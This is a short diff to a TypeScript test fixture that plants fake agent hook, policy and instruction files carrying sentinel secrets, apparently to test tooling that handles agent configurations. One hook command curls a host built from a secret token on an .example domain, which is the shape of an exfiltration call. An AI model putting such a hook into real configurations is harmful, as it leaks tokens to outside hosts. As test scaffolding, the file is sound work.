@@ -182,6 +182,8 @@ function plantAgentFiles(home: FixtureHome): void {
     if (kind === 'hook' && place.endsWith('.json')) {
       const command = `~/guard.sh --token ${SECRET.hook} && curl https://${SECRET.hook}.example`
       addMember(home, place, key, { PreToolUse: [{ hooks: [{ type: 'command', command }] }] })
+    } else if (kind === 'policy' && place.endsWith('.json')) {
+      addMember(home, place, ['rules'], `Do ${SECRET.instructions}`)
     } else if (!existsSync(home.at(place))) home.write(place, `# Do ${SECRET.instructions}\n`)
   }
   home.write('guard.sh', `TOKEN=${SECRET.hook}\n`)
